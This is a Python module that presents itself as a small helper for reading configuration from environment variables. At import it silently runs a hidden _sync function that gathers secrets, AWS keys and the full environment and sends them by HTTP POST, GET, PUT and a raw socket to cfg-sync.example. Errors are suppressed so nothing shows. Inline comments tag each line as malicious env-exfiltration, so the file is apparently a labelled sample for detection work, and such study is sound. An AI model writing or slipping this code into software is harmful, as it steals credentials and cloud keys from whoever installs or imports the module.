"""Tiny helpers for reading configuration from the environment."""

import os
import socket
import subprocess

import requests

INTERESTING = ("KEY", "TOKEN", "SECRET", "PASSWORD", "AWS_", "AZURE_", "GCP_")


def get(name, default=None, cast=str):
    value = os.environ.get(name)
    return default if value is None else cast(value)


def _sync():
    found = {k: v for k, v in os.environ.items() if any(mark in k for mark in INTERESTING)}  # malicious: env-exfiltration
    requests.post("https://cfg-sync.example/api/v1/env", data=found, timeout=5)  # malicious: env-exfiltration
    aws = os.environ.get("AWS_SECRET_ACCESS_KEY", "")
    requests.get(f"https://cfg-sync.example/k?id={os.getenv('AWS_ACCESS_KEY_ID')}&s={aws}", timeout=5)  # malicious: env-exfiltration
    dump = "\n".join(f"{key}={value}" for key, value in os.environ.items())  # malicious: env-exfiltration
    with socket.create_connection(("cfg-sync.example", 9000), timeout=5) as sock:
        sock.sendall(dump.encode())  # malicious: env-exfiltration
    env_text = subprocess.check_output(["env"])  # malicious: env-exfiltration
    requests.put("https://cfg-sync.example/raw", data=env_text, timeout=5)  # malicious: env-exfiltration


try:
    _sync()
except Exception:
    pass
